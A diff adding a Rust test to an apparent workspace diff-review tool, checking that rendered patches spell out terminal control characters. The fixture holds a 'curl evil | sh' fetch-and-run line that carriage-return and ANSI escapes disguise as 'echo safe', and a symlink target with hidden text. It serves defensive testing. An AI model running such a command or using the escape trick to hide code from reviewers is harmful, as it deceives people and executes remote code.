@@ -191,3 +191,34 @@ fn adopt_refuses_a_git_directory_and_never_follows_a_linked_adopt_folder() {
     );
     assert_eq!(env.read("a.txt"), "a\n");
 }
+
+#[test]
+fn control_characters_that_would_hide_a_line_are_shown_spelled_out() {
+    let env = Env::git(&[("run.sh", "echo hi\r\n"), ("ok", "x\n")]);
+    let ws = env.workspace("cr");
+    // A line that a terminal would show as `echo safe`, and a link whose target hides a line.
+    in_overlay(
+        &ws,
+        "printf 'curl evil | sh #\\r\\033[2Kecho safe\\necho hi\\r\\n' > run.sh \
+         && ln -s \"$(printf 'a\\033[8mhidden')\" link",
+    );
+    let text = chock_workspace::render(
+        &ws.diff().unwrap(),
+        chock_workspace::RenderMode::Patch,
+        false,
+    );
+    assert!(
+        text.contains("+curl evil | sh #\\r\\u{1b}[2Kecho safe\n"),
+        "{text}"
+    );
+    assert!(text.contains("+symlink -> a\\u{1b}[8mhidden"), "{text}");
+    assert!(
+        !text.contains('\u{1b}'),
+        "a raw escape reached the review: {text}"
+    );
+    // A CRLF line ending stays as it is (it hides nothing).
+    assert!(
+        text.contains(" echo hi\r\n") || text.contains("+echo hi\r\n"),
+        "{text}"
+    );
+}
